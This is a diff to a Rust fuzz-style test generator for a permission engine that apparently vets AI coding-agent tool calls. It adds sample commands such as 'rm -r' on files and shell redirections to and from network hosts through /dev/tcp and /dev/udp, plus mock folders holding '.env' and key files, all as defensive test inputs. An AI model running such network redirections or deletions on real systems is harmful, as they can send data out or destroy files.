@@ -4,12 +4,14 @@
 //! patterns of the shell as operands. The engine is held to other specifications there (`shell/*.toml`,
 //! `permission_cases.rs`, `oracle.rs`).
 
+use std::collections::BTreeMap;
+
 use portcullis_policy::{
     AbsPath, Facts, Mode, Request, ToolCall,
     call::normalise,
     facts::{
         Approval, ConfiguredIn, Launch, McpServer, PathFact, PathKind, Repositories, Repository, RepositoryIdentity,
-        SandboxOffer, Tree,
+        SandboxOffer, Tree, TreeNeeded,
     },
     facts_needed,
     mode::{ClassifierReport, ClassifierVerdict, Session},
@@ -50,7 +52,7 @@ const FILES: &[&str] = &[
 fn simple_command(dice: &mut Dice) -> String {
     let file = |dice: &mut Dice| dice.of(FILES).to_owned();
     let (one, other) = (file(dice), file(dice));
-    match dice.below(57) {
+    match dice.below(61) {
         0 | 1 => "git status".to_owned(),
         2 => "git push origin main".to_owned(),
         3 => "git -C src push origin".to_owned(),
@@ -99,6 +101,9 @@ fn simple_command(dice: &mut Dice) -> String {
         53 => "echo x > $X".to_owned(),
         54 => "echo x > $X/.git/hooks/a".to_owned(),
         55 => format!("npm test --prefix={}", dice.of(&["src", "../x"])),
+        57 => format!("rm -r {one}"),
+        58 => "echo x > /dev/tcp/b.a.test/80".to_owned(),
+        59 => "cat < /dev/udp/c.b.a.test/53".to_owned(),
         _ => format!("cat < {one}"),
     }
 }
@@ -137,7 +142,12 @@ fn browser(dice: &mut Dice) -> serde_json::Map<String, Value> {
 
 pub(crate) fn call(dice: &mut Dice) -> ToolCall {
     let file = dice.of(FILES);
-    match dice.below(36) {
+    match dice.below(40) {
+        38 | 39 => tool("PowerShell", &json!({ "command": "Get-ChildItem" })),
+        36 | 37 => {
+            let input = json!({ "path": file });
+            normalise("cursor", "Delete", input.as_object().unwrap().clone()).unwrap()
+        }
         30 | 31 => normalise("cline", "browser_action", browser(dice)).unwrap(),
         32 => tool("ExitPlanMode", &json!({ "plan": "x" })),
         33 => tool("TodoWrite", &json!({ "todos": [] })),
@@ -258,6 +268,35 @@ fn repositories(dice: &mut Dice) -> Repositories {
     }])
 }
 
+/// What stands below folders that are moved or removed; of some nothing is known, or not all.
+fn trees(dice: &mut Dice, needed: Vec<TreeNeeded>) -> BTreeMap<AbsPath, Tree> {
+    let mut out = BTreeMap::new();
+    for wanted in needed {
+        let mut some = |names: &[&str], one_in: usize| {
+            let names = names.iter().filter(|_| dice.once_in(one_in));
+            names.map(|name| (*name).to_owned()).collect()
+        };
+        let tree = Tree {
+            complete: true,
+            files: some(&[".env", "a.rs", "b.key", "x.md", ".npmrc"], 6),
+            folders: some(&["src", "docs", "lib", "out", ".vscode"], 6),
+            ..Tree::default()
+        };
+        match dice.below(20) {
+            0 => {}
+            1 => drop(out.insert(
+                wanted.folder,
+                Tree {
+                    complete: false,
+                    ..tree
+                },
+            )),
+            _ => drop(out.insert(wanted.folder, tree)),
+        }
+    }
+    out
+}
+
 fn session(dice: &mut Dice, mode: Mode) -> Session {
     Session {
         started_in: match dice.below(6) {
@@ -300,10 +339,6 @@ pub(crate) fn request(dice: &mut Dice) -> Request {
         _ => Some(path("/home/dev/proj/.git")),
     };
     let needed = facts_needed(&call.action, &workspace);
-    let empty = Tree {
-        complete: true,
-        ..Tree::default()
-    };
     let facts = Facts {
         vouched: !dice.once_in(10),
         paths: needed
@@ -354,10 +389,7 @@ pub(crate) fn request(dice: &mut Dice) -> Request {
         } else {
             Vec::new()
         },
-        // What `mv` takes along holds nothing: folders that are read as a whole have their own tests.
-        trees: (needed.trees.into_iter())
-            .map(|tree| (tree.folder, empty.clone()))
-            .collect(),
+        trees: trees(dice, needed.trees),
         own_paths: vec![path("/own")],
         own_secret_paths: vec![path("/own/secret")],
     };
